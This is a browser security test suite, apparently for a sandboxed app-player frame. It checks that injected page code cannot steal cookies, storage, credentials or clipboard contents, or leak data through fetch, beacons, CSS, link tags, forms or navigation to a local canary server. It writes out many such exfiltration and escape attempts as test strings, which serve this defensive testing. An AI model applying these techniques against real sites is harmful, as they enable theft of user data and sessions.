import type { Frame } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { PlayerInit } from "../src/host/player-host.ts";
import { type Canary, serveCanary } from "./browser.ts";
import { bind, sampleInit } from "./sample.ts";
import { useSite } from "./use-site.ts";

const stage = useSite({ viewport: { width: 1000, height: 700 } });
let canary: Canary;
beforeAll(async () => {
  canary = await serveCanary();
});
afterAll(() => canary?.close());
beforeEach(async () => {
  await stage.page().context().addCookies([{ name: "tessera_session", value: "secret", url: stage.site().origin, sameSite: "Lax" }]);
  canary.visits.length = 0;
});

/** A page whose binding runs hostile code, which leaves what it got in `globalThis.loot`. */
const hostile = (code: string): PlayerInit =>
  sampleInit({ evil: { type: "label", rect: { x: 0, y: 0, w: 24, h: 4 }, props: { text: bind(`{{ (() => { const canary = "http://127.0.0.1:${canary.port}"; const home = "${stage.site().origin}"; ${code} })() }}`) } } });

/** Code that tries something and notes `blocked`, or what it got. */
const attempt = (name: string, expression: string): string =>
  `globalThis.loot ??= {}; loot[${JSON.stringify(name)}] = "pending"; Promise.resolve().then(() => (${expression})).then((got) => (loot[${JSON.stringify(name)}] = got === undefined ? "blocked" : String(got)), () => (loot[${JSON.stringify(name)}] = "blocked"));`;

/** What each attempt got, once all are over. */
async function lootOf(frame: Frame): Promise<Record<string, string>> {
  await frame.getByText("ran").waitFor();
  await frame.waitForFunction(() => !Object.values((globalThis as unknown as { loot: Record<string, string> }).loot).includes("pending"));
  return frame.evaluate(() => (globalThis as unknown as { loot: Record<string, string> }).loot);
}

const nothing = (tries: object): Record<string, string> => Object.fromEntries(Object.keys(tries).map((name) => [name, "blocked"]));
const attempts = (tries: Record<string, string>): string => Object.entries(tries).map(([name, code]) => attempt(name, code)).join(" ");

const element = (tag: string, fields: string, parent = "document.head"): string => `(() => { const element = document.createElement("${tag}"); ${fields} ${parent}.append(element); })()`;

describe("code of a page", () => {
  it("reaches no cookie, storage, shell, or other window", async () => {
    const tries = {
      cookie: "document.cookie", setCookie: "document.cookie = 'a=1'", localStorage: "localStorage.length", sessionStorage: "sessionStorage.length",
      indexedDB: "new Promise((ok, no) => { const open = indexedDB.open('a'); open.onsuccess = () => ok('opened'); open.onerror = no; })",
      caches: "caches.open('a')", cookieStore: "cookieStore.getAll()", opfs: "navigator.storage.getDirectory()", serviceWorker: "navigator.serviceWorker.register('/player/frame.js')", parentDom: "parent.document.title", topDom: "top.document.title",
      parentHarness: "parent.harness.host", parentStorage: "parent.localStorage.length", frameElement: "frameElement ? frameElement.id : undefined", locks: "navigator.locks.request('a', () => 'locked')",
      broadcast: "new Promise((ok, no) => { const channel = new BroadcastChannel('x'); channel.onmessage = () => ok('heard'); setTimeout(no, 300); })",
      popup: "window.open('about:blank') ?? undefined", alert: "alert('x')", topNavigation: "(() => { top.location.href = canary; })()", parentNavigation: "(() => { parent.location = canary; })()",
    };
    expect(await lootOf(await stage.open(hostile(`${attempts(tries)} return 'ran';`)))).toEqual(nothing(tries));
    expect(stage.page().url()).toBe(`${stage.site().origin}/`);
    expect(stage.page().context().pages()).toHaveLength(1);
    expect(canary.visits).toEqual([]);
  });

  it("reaches no network", async () => {
    const url = "canary + '/x'";
    const tries: Record<string, string> = {
      fetch: `fetch(${url}, {mode: 'no-cors'})`, fetchHome: "fetch(home + '/api/v1/apps', {credentials: 'include'})", xhr: `new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', ${url}); x.onload = () => ok('loaded'); x.onerror = no; x.send(); })`,
      webSocket: "new Promise((ok, no) => { const s = new WebSocket(canary.replace('http', 'ws')); s.onopen = () => ok('open'); s.onerror = no; })", eventSource: `new Promise((ok, no) => { const s = new EventSource(${url}); s.onopen = () => ok('open'); s.onerror = no; })`,
      image: `new Promise((ok, no) => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = no; i.src = ${url}; })`, importScript: `import(${url})`, importData: "import('data:text/javascript,export default 1').then(() => 'ran')",
      worker: "new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => ok('ran'); w.onerror = no; })", homeWorker: "new Promise((ok, no) => { const w = new Worker(home + '/player/assets/x.js'); w.onmessage = () => ok('ran'); w.onerror = no; })",
      peer: "typeof RTCPeerConnection === 'undefined' ? undefined : 'there'", webTransport: "typeof WebTransport === 'undefined' ? undefined : 'there'", fontFace: `new FontFace('a', 'url(' + ${url} + ')').load()`,
      fetchLater: `typeof fetchLater === 'undefined' ? undefined : (fetchLater(${url}), undefined)`, share: "navigator.share({ url: canary })", payment: "new PaymentRequest([{ supportedMethods: canary }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment().then((can) => can || undefined)",
    };
    const silent = [
      `navigator.sendBeacon(${url}, 'x')`, element("link", `element.rel = 'prefetch'; element.href = ${url};`), element("link", `element.rel = 'stylesheet'; element.href = ${url};`), element("link", `element.rel = 'preload'; element.as = 'image'; element.href = ${url};`),
      element("link", `element.rel = 'modulepreload'; element.href = ${url};`), element("link", `element.rel = 'prerender'; element.href = ${url};`), element("link", `element.rel = 'icon'; element.href = ${url};`), element("link", `element.rel = 'manifest'; element.href = ${url};`),
      element("style", `element.textContent = '@import "' + ${url} + '"; body { background: url(' + ${url} + ') } @font-face { font-family: q; src: url(' + ${url} + ') } * { font-family: q }';`),
      element("iframe", `element.src = ${url};`, "document.body"), element("object", `element.data = ${url};`, "document.body"), element("embed", `element.src = ${url};`, "document.body"), element("video", `element.src = ${url};`, "document.body"),
      element("script", `element.src = ${url};`), element("script", "element.textContent = 'globalThis.inline = 1';"), element("script", `element.type = 'speculationrules'; element.textContent = JSON.stringify({ prefetch: [{ urls: [${url}] }] });`),
      element("form", `element.action = ${url}; element.method = 'post'; setTimeout(() => element.submit());`, "document.body"), element("a", `element.href = '#'; element.ping = ${url}; setTimeout(() => element.click());`, "document.body"),
      element("iframe", "element.srcdoc = '<script>new RTCPeerConnection()</' + 'script>';", "document.body"), element("svg", "element.innerHTML = '<image href=\"' + canary + '/svg\"/>';", "document.body"),
      element("link", "element.rel = 'preconnect'; element.href = canary;"), element("link", "element.rel = 'dns-prefetch'; element.href = canary;"), element("link", `element.rel = 'preload'; element.as = 'image'; element.imageSrcset = ${url} + ' 1x';`),
      element("picture", `element.innerHTML = '<source srcset="' + ${url} + '"><img srcset="' + ${url} + ' 2x">';`, "document.body"), element("input", `element.type = 'image'; element.src = ${url};`, "document.body"), element("audio", `element.innerHTML = '<source src="' + ${url} + '"><track default src="' + ${url} + '">';`, "document.body"),
      element("div", `element.innerHTML = '<svg><use href="' + ${url} + '#a"/><filter id="f"><feImage href="' + ${url} + '"/></filter><rect filter="url(#f)" width="9" height="9"/></svg><table background="' + ${url} + '"><tr><td>x</td></tr></table>';`, "document.body"),
      element("style", `element.textContent = '.bait { cursor: url(' + ${url} + '), auto; mask: url(' + ${url} + '); list-style: url(' + ${url} + '); background: image-set(url(' + ${url} + ') 1x); content: url(' + ${url} + ') } @namespace a url(' + ${url} + ');';`),
      element("div", "element.className = 'bait'; element.textContent = 'bait';", "document.body"), element("script", `element.type = 'importmap'; element.textContent = JSON.stringify({ imports: { x: ${url} } });`), element("meta", "element.httpEquiv = 'refresh'; element.content = '9999;url=' + canary;"),
      element("meta", "element.httpEquiv = 'Content-Security-Policy'; element.content = \"default-src *\";"), element("base", "element.href = canary;"),
    ];
    const frame = await stage.open(hostile(`${attempts(tries)} ${silent.map((code) => `try { ${code} } catch (error) { void error; }`).join(" ")} return 'ran';`));
    expect(await lootOf(frame)).toEqual(nothing(tries));
    expect(await frame.evaluate(() => (globalThis as unknown as { inline?: number }).inline)).toBeUndefined();
    // A visit that was on its way would be here by the time the shell has asked the same server for something.
    await fetch(`http://127.0.0.1:${canary.port}/marker`);
    expect(canary.visits).toEqual(["connection", "GET /marker"]);
    expect(stage.site().strangers.filter((request) => !request.includes("favicon"))).toEqual([]);
  });

  it("reaches no device, file, permission, fresh window or shared memory", async () => {
    const settled = (call: string): string => `(${call}).then((got) => got ?? undefined)`;
    const tries = {
      clipboardRead: "navigator.clipboard.readText()", clipboardWrite: "navigator.clipboard.writeText('x').then(() => 'wrote')", notifications: "Notification.requestPermission().then((got) => got === 'denied' ? undefined : got)", documentDomain: "(document.domain = '127.0.0.1')",
      sharedMemory: "typeof SharedArrayBuffer === 'undefined' ? undefined : 'there'", fineClock: "crossOriginIsolated || undefined", fullscreen: "document.body.requestFullscreen().then(() => 'full')", pointerLock: "document.body.requestPointerLock().then(() => 'locked')",
      protocolHandler: "(navigator.registerProtocolHandler('web+x', canary + '/%s'), 'registered')", sharedWorker: "new Promise((ok, no) => { const w = new SharedWorker('data:text/javascript,'); w.onerror = no; w.port.onmessage = () => ok('ran'); })",
      dataWorker: "new Promise((ok, no) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = () => ok('ran'); w.onerror = no; })", blobModule: "import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))).then(() => 'ran')",
      passwords: settled("navigator.credentials.get({ password: true })"), passkeys: settled("navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } })"), files: "showOpenFilePicker().then(() => 'picked')", camera: "navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'seen')",
      screen: "navigator.mediaDevices.getDisplayMedia().then(() => 'seen')", place: "new Promise((ok, no) => navigator.geolocation.getCurrentPosition(() => ok('found'), no))", usb: "navigator.usb.getDevices().then((found) => found.length || undefined)", wakeLock: "navigator.wakeLock.request('screen').then(() => 'awake')",
      blankFrame: "(() => { const f = document.createElement('iframe'); document.body.append(f); return typeof f.contentWindow.RTCPeerConnection; })()", blankDocument: "(() => { const f = document.createElement('iframe'); document.body.append(f); return f.contentDocument ?? undefined; })()",
      openedDocument: "(() => { const d = document.implementation.createHTMLDocument(''); const f = d.createElement('iframe'); d.body.append(f); return f.contentWindow ?? undefined; })()", scriptAddress: "new Promise((ok, no) => { location.href = 'javascript:globalThis.address = 1'; setTimeout(() => globalThis.address ? ok('ran') : no(), 200); })",
      storageAccess: "document.requestStorageAccess().then(() => 'granted')", fencedFrame: "(() => { const f = document.createElement('fencedframe'); document.body.append(f); return f.config === undefined ? undefined : (f.config = new FencedFrameConfig(canary), 'set'); })()",
    };
    const frame = await stage.open(hostile(`${attempts(tries)} return 'ran';`));
    expect(await lootOf(frame)).toEqual(nothing(tries));
    expect(canary.visits).toEqual([]);
  });

  it.each([
    ["an address", "location.href = canary + '/self'"],
    ["a replaced address", "location.replace(canary + '/self')"],
    ["a refresh", "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"refresh\" content=\"0;url=' + canary + '/meta\">')"],
    ["a link", element("a", "element.href = canary + '/link'; setTimeout(() => element.click());", "document.body")],
    ["a form", element("form", "element.action = canary + '/form'; setTimeout(() => element.submit());", "document.body")],
    ["the navigation interface", "navigation.navigate(canary + '/navigate')"],
    ["text of its own", "location.href = URL.createObjectURL(new Blob(['<script>fetch(' + JSON.stringify(canary) + ')</script>'], { type: 'text/html' }))"],
    ["an address of the platform", "location.href = home + '/api/v1/apps'"],
    ["an address of the platform, put into its history first", "history.pushState(null, '', '/api/v1/apps'); location.reload()"],
  ])("cannot carry anything away by navigating its own frame to %s", async (_name, code) => {
    await stage.open(hostile(`if (!globalThis.tried) { globalThis.tried = true; setTimeout(() => { ${code}; }, 50); } return 'ran';`));
    const frame = stage.page().frames().find((candidate) => candidate !== stage.page().mainFrame());
    await expect.poll(() => frame?.url() ?? "gone").not.toMatch(/:\d+\/(self|meta|link|form|navigate)/);
    await stage.page().evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 300))));
    expect(canary.visits).toEqual([]);
    expect(stage.site().strangers).toEqual([]);
    expect(stage.page().url()).toBe(`${stage.site().origin}/`);
  });
});
